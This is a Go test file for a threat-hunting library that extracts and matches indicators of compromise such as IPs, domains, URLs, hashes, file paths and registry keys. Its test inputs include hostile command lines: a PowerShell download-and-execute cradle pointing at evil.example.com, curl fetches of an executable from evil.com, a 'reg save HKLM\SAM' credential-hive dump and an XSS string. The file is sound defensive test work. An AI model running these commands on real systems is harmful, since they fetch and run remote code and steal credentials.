package hunt

import (
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"sort"
	"strings"
	"testing"
)

// iocStrings renders found indicators as "type value", sorted.
func iocStrings(found []iocFound) []string {
	out := make([]string, len(found))
	for i, x := range found {
		out[i] = x.Type + " " + x.Value
	}
	sort.Strings(out)
	return out
}

// TestExtractIOCsCases: each indicator type, its defanged forms, and the false positives the
// scanner refuses (version numbers, file names, .NET type names, times, MAC addresses).
func TestExtractIOCsCases(t *testing.T) {
	cases := []struct {
		in   string
		want []string
	}{
		{`ping 10.1.2.3 -n 1`, []string{"ipv4 10.1.2.3"}},
		{`connect 192.168.0.1:445,8.8.8.8.`, []string{"ipv4 192.168.0.1", "ipv4 8.8.8.8"}},
		{`10[.]0[.]0[.]1 and 1(.)2(.)3(.)4`, []string{"ipv4 1.2.3.4", "ipv4 10.0.0.1"}},
		// version numbers, out-of-range octets and leading zeros are not addresses
		{`Windows 10.0.17763.1 build 6.1.7601.17514 v1.2.3.4 Version=4.0.0.0 300.1.1.1 01.2.3.4`, nil},
		{`fe80::1c2d:3e4f:5a6b:7c8d%12 and 2001:DB8:0:0::1`, []string{"ipv6 2001:db8::1", "ipv6 fe80::1c2d:3e4f:5a6b:7c8d"}},
		{`at 12:30:45 mac 00:1A:2B:3C:4D:5E`, nil},
		{`iex (New-Object Net.WebClient).DownloadString('https://evil.example.com/a.ps1')`,
			[]string{"domain evil.example.com", "url https://evil.example.com/a.ps1"}},
		{`hxxps://bad[.]com/x?y=1 and hXXp://1.2.3.4:8080/p.`,
			[]string{"domain bad.com", "ipv4 1.2.3.4", "url http://1.2.3.4:8080/p", "url https://bad.com/x?y=1"}},
		{`(see http://[2001:db8::2]/x)`, []string{"ipv6 2001:db8::2", "url http://[2001:db8::2]/x"}},
		{`mail Bob.Smith@Corp.Example.ORG or alice[at]evil[.]net`,
			[]string{"domain corp.example.org", "domain evil.net", "email alice@evil.net", "email bob.smith@corp.example.org"}},
		// file names and type names are not domains
		{`powershell.exe -f a.ps1 update.zip run.sh System.Management.Automation Microsoft.PowerShell.Security`, nil},
		{`C:\Windows\System32\drivers\etc\hosts.com`, []string{`windows_path C:\Windows\System32\drivers\etc\hosts.com`}},
		{`nslookup WWW.Evil-Site.co.uk.`, []string{"domain www.evil-site.co.uk"}},
		{`MD5=0CC175B9C0F1B6A831C399E269772661,SHA1=86F7E437FAA5A7FCE15D1DDCB9EAEAEA377667B8,SHA256=CA978112CA1BBDCAFAC231B39A23DC4DA786EFF8147C4E72B9807785AFEE48BB,IMPHASH=00000000000000000000000000000000`,
			[]string{"md5 0cc175b9c0f1b6a831c399e269772661", "sha1 86f7e437faa5a7fce15d1ddcb9eaeaea377667b8", "sha256 ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"}},
		// a hex run inside a longer word (base64) is not a hash
		{`JAB0AGUAcwB0ADEAMgAzADQANQA2ADcAOAA5AGEAYgBjAGQAZQBmAGcAaAA=`, nil},
		{`"C:\Program Files\App\app.exe" -c C:\Temp\x.bat /q`,
			[]string{`windows_path C:\Program Files\App\app.exe`, `windows_path C:\Temp\x.bat`}},
		{`cmd.exe /c copy %SystemRoot%\System32\cmd.exe \\fileserver01\share$\drop\s.exe`,
			[]string{`unc_path \\fileserver01\share$\drop\s.exe`, `windows_path %SystemRoot%\System32\cmd.exe`}},
		{`reg save HKLM\SAM C:\sam.save & reg query "HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run"`,
			[]string{`registry_key HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run`, `registry_key HKLM\SAM`, `windows_path C:\sam.save`}},
		{`\REGISTRY\MACHINE\SYSTEM\CurrentControlSet\Services\evil`, []string{`registry_key \REGISTRY\MACHINE\SYSTEM\CurrentControlSet\Services\evil`}},
		{`Set-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion -Name debug`, []string{`registry_key HKCU:\Software\Microsoft\Windows\CurrentVersion`}},
		{``, nil},
	}
	for _, c := range cases {
		got := iocStrings(extractIOCs(c.in))
		want := append([]string(nil), c.want...)
		sort.Strings(want)
		if len(got) == 0 && len(want) == 0 {
			continue
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("extractIOCs(%q)\n got %q\nwant %q", c.in, got, want)
		}
	}
}

// TestRefang: the defanging forms and text left alone.
func TestRefang(t *testing.T) {
	for in, want := range map[string]string{
		"hxxps://a[.]b(.)c{.}d[dot]e": "https://a.b.c.d.e",
		"x[at]y (AT) z[@]w":           "x@y @ z@w",
		"fxp://h[:]21[/]p":            "ftp://h:21/p",
		"array[0] (a) {b} xx":         "array[0] (a) {b} xx",
	} {
		if got := refang(in); got != want {
			t.Errorf("refang(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestIOCsFrame: ExtractIOCs in WithColumn and in SQL, and IOCs counting rows per indicator.
func TestIOCsFrame(t *testing.T) {
	f := mustOK(t, FromRows([]map[string]any{
		{"n": 1, "CommandLine": `curl hxxp://evil[.]com/a -o C:\Temp\a.exe`, "Parent": `cmd.exe`},
		{"n": 2, "CommandLine": `curl http://evil.com/a -o C:\Temp\a.exe`, "Parent": `ping 10.0.0.9`},
		{"n": 3, "CommandLine": `curl http://evil.com/a -o C:\Temp\a.exe`, "Parent": nil},
		{"n": 4, "CommandLine": nil, "Parent": `<script>alert(1)</script> evil.com`},
	}))
	w := mustOK(t, f.WithColumn("iocs", ExtractIOCs("CommandLine")).OrderBy("n"))
	rows, err := w.Collect()
	if err != nil {
		t.Fatal(err)
	}
	if got := fmt.Sprint(rows[0]["iocs"]); !strings.Contains(got, "http://evil.com/a") || !strings.Contains(got, `C:\Temp\a.exe`) {
		t.Errorf("ExtractIOCs row 1: %s", got)
	}
	if rows[3]["iocs"] != nil {
		t.Errorf("ExtractIOCs of NULL: %v, want NULL", rows[3]["iocs"])
	}
	got, err := f.IOCs("CommandLine", "Parent").Collect()
	if err != nil {
		t.Fatal(err)
	}
	var lines []string
	for _, r := range got {
		lines = append(lines, fmt.Sprintf("%v %v %v %v", r["column"], r["type"], r["value"], r["count"]))
	}
	want := []string{
		"CommandLine domain evil.com 3",
		"CommandLine url http://evil.com/a 3",
		`CommandLine windows_path C:\Temp\a.exe 3`,
		"Parent domain evil.com 1",
		"Parent ipv4 10.0.0.9 1",
	}
	if !reflect.DeepEqual(lines, want) {
		t.Errorf("IOCs:\n got %q\nwant %q", lines, want)
	}
	// every text column when none is named
	if n := mustCount(t, f.IOCs()); n != 5 {
		t.Errorf("IOCs() of every text column: %d rows, want 5", n)
	}
	if err := f.IOCs("Commandline").Err(); err == nil || !strings.Contains(err.Error(), `"CommandLine"`) {
		t.Errorf("IOCs of a misspelt column: %v, want a near match", err)
	}
	f.As("iocEvents")
	s, err := SQL(`SELECT i.value AS v FROM (SELECT unnest(ioc_extract(CommandLine)) AS i FROM iocEvents WHERE n = 1) WHERE i.type = "url"`).Strings("v")
	if err != nil || !reflect.DeepEqual(s, []string{"http://evil.com/a"}) {
		t.Errorf("%%sql ioc_extract: %q, %v", s, err)
	}
}

// TestSplitHashes: Sysmon's Hashes field becomes typed columns, whatever algorithms it holds.
func TestSplitHashes(t *testing.T) {
	f := mustOK(t, FromRows([]map[string]any{
		{"n": 1, "Hashes": "SHA1=86F7E437FAA5A7FCE15D1DDCB9EAEAEA377667B8,MD5=0CC175B9C0F1B6A831C399E269772661,SHA256=CA978112CA1BBDCAFAC231B39A23DC4DA786EFF8147C4E72B9807785AFEE48BB,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744"},
		{"n": 2, "Hashes": "SHA256=CA978112CA1BBDCAFAC231B39A23DC4DA786EFF8147C4E72B9807785AFEE48BB"},
		{"n": 3, "Hashes": nil},
	}))
	h := mustOK(t, f.SplitHashes().OrderBy("n"))
	rows, err := h.Collect()
	if err != nil {
		t.Fatal(err)
	}
	if rows[0]["MD5"] != "0cc175b9c0f1b6a831c399e269772661" || rows[0]["IMPHASH"] != "f34d5f2d4577ed6d9ceec516c1f5a744" ||
		rows[0]["SHA1"] != "86f7e437faa5a7fce15d1ddcb9eaeaea377667b8" || rows[1]["MD5"] != nil ||
		rows[1]["SHA256"] != "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb" || rows[2]["SHA256"] != nil {
		t.Errorf("SplitHashes: %v", rows)
	}
	if cols := h.Columns(); !reflect.DeepEqual(cols, []string{"Hashes", "n", "MD5", "SHA1", "SHA256", "IMPHASH"}) {
		t.Errorf("SplitHashes columns: %q", cols)
	}
	if err := f.SplitHashes("Hash").Err(); err == nil || !strings.Contains(err.Error(), `"Hashes"`) {
		t.Errorf("SplitHashes of a misspelt column: %v", err)
	}
}

// TestLookup: exact, case-insensitive and CIDR matches, IPv6 written two ways, lists from a frame
// and from CSV and JSON-lines files.
func TestLookup(t *testing.T) {
	ev := mustOK(t, FromRows([]map[string]any{
		{"n": 1, "v": "10.1.2.3"},
		{"n": 2, "v": "10.2.0.1"},
		{"n": 3, "v": "EVIL.com"},
		{"n": 4, "v": "2001:0db8:0000::0005"},
		{"n": 5, "v": "0CC175B9C0F1B6A831C399E269772661"},
		{"n": 6, "v": "192.168.7.7"},
		{"n": 7, "v": nil},
		{"n": 8, "v": "not.listed.org"},
	}))
	list := mustOK(t, FromRows([]map[string]any{
		{"Indicator": "10.1.0.0/16", "source": "range"},
		{"Indicator": " evil.com ", "source": "domain"},
		{"Indicator": "2001:db8::5", "source": "v6"},
		{"Indicator": "0cc175b9c0f1b6a831c399e269772661", "source": "hash"},
		{"Indicator": "192.168.7.7", "source": "ip"},
		{"Indicator": "192.168.0.0/16", "source": "range2"},
	}))
	want := []string{"1 range", "3 domain", "4 v6", "5 hash", "6 ip", "6 range2"}
	check := func(name string, g *Frame) {
		t.Helper()
		rows, err := g.OrderBy("n", "ioc_source").Collect()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		var got []string
		for _, r := range rows {
			got = append(got, fmt.Sprintf("%v %v", r["n"], r["ioc_source"]))
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("%s:\n got %q\nwant %q", name, got, want)
		}
	}
	check("frame list", ev.Lookup("v", list))
	dir := t.TempDir()
	csv := filepath.Join(dir, "iocs.csv")
	var b strings.Builder
	b.WriteString("indicator,source\n")
	jb := strings.Builder{}
	for _, r := range [][2]string{{"10.1.0.0/16", "range"}, {" evil.com ", "domain"}, {"2001:db8::5", "v6"}, {"0cc175b9c0f1b6a831c399e269772661", "hash"}, {"192.168.7.7", "ip"}, {"192.168.0.0/16", "range2"}} {
		fmt.Fprintf(&b, "%q,%s\n", r[0], r[1])
		fmt.Fprintf(&jb, "{\"indicator\": %q, \"source\": %q}\n", r[0], r[1])
	}
	if err := os.WriteFile(csv, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	check("CSV list", ev.Lookup("v", csv))
	js := filepath.Join(dir, "iocs.json")
	if err := os.WriteFile(js, []byte(jb.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	check("JSON list", ev.Lookup("v", js))
	if err := ev.Lookup("V", list).Err(); err == nil || !strings.Contains(err.Error(), `"v"`) {
		t.Errorf("Lookup of a misspelt column: %v", err)
	}
	if err := ev.Lookup("v", 3).Err(); err == nil {
		t.Error("Lookup with an int list: no error")
	}
	if err := ev.Lookup("v", filepath.Join(dir, "missing.csv")).Err(); err == nil || !strings.Contains(err.Error(), "missing.csv") {
		t.Errorf("Lookup with a missing file: %v", err)
	}
}

// TestCIDRBounds: range ends for IPv4 and IPv6 prefixes, and text that is no range.
func TestCIDRBounds(t *testing.T) {
	lo, hi, ok := cidrBounds("10.1.2.3/16")
	if !ok || lo != "00000000000000000000ffff0a010000" || hi != "00000000000000000000ffff0a01ffff" {
		t.Errorf("10.1.2.3/16: %s %s %v", lo, hi, ok)
	}
	lo, hi, ok = cidrBounds("2001:db8::/126")
	if !ok || lo != "20010db8000000000000000000000000" || hi != "20010db8000000000000000000000003" {
		t.Errorf("2001:db8::/126: %s %s %v", lo, hi, ok)
	}
	for _, s := range []string{"evil.com", "10.0.0.0/33", "", "1.2.3"} {
		if _, _, ok := cidrBounds(s); ok {
			t.Errorf("cidrBounds(%q) ok", s)
		}
	}
}

// FuzzExtractIOCs: any text scans without panic, and every value found is valid UTF-8 text that
// occurs (after refanging, ignoring case) in the input, or is an address's canonical form.
func FuzzExtractIOCs(f *testing.F) {
	for _, s := range []string{`hxxps://a[.]b/c`, `C:\x\y z\w.exe`, `\\s\t\u`, `1.2.3.4`, `::1`, `HKLM\x`, `a@b.com`, "%x%\\y"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		low := strings.ToLower(refang(s))
		for _, x := range extractIOCs(s) {
			if x.Value == "" {
				t.Fatalf("empty %s in %q", x.Type, s)
			}
			if x.Type != iocIPv6 && !strings.Contains(low, strings.ToLower(x.Value)) && x.Type != iocURL {
				t.Fatalf("%s %q not in %q", x.Type, x.Value, s)
			}
		}
	})
}
